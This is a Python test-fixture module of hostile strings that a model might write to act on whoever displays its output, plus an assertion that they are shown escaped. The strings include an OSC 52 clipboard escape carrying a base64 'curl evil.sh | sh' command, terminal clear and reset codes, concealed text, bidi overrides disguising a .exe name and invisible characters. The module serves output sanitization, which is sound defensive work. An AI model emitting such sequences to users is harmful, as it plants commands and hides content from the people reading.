"""Text a hostile model writes to act on whoever displays it, and the checks that it reached a person inert."""

from __future__ import annotations

HOSTILE = (
    "Done.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1bc \x1b[8mhidden text\x1b[0m "
    "file\u202etxt.exe \u2066isolated\u2069 zero\u200bwidth\ufeffmark \x9b2J \U000e0041\U000e0042 tail"
)
"""OSC 52 (sets the clipboard), a screen clear, a terminal reset, hidden text, a bidi override and isolate, zero-width
characters and a byte order mark, an 8-bit CSI, invisible tag characters."""

RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u2069", "\u200b", "\ufeff", "\U000e0041")
ESCAPED = (
    *("\\x1b]52;c;", "\\x07", "\\x1b[2J", "\\x1bc", "\\x1b[8m"),
    *("\\u202e", "\\u2066", "\\u200b", "\\ufeff", "\\x9b", "\\U000e0041"),
)

HOSTILE_TOOL = "Read\x1b]52;c;aGk=\x07\u202e"
"""A tool name the model makes up: shown wherever the running tool is named."""


def assert_inert(shown: str, *, escapes: tuple[str, ...] = ESCAPED) -> None:
    """None of the hostile characters reached `shown` as they were; their escapes did."""
    for raw in RAW:
        assert raw not in shown, f"{raw!r} reached the output raw"
    for escape in escapes:
        assert escape in shown, f"{escape} is missing"
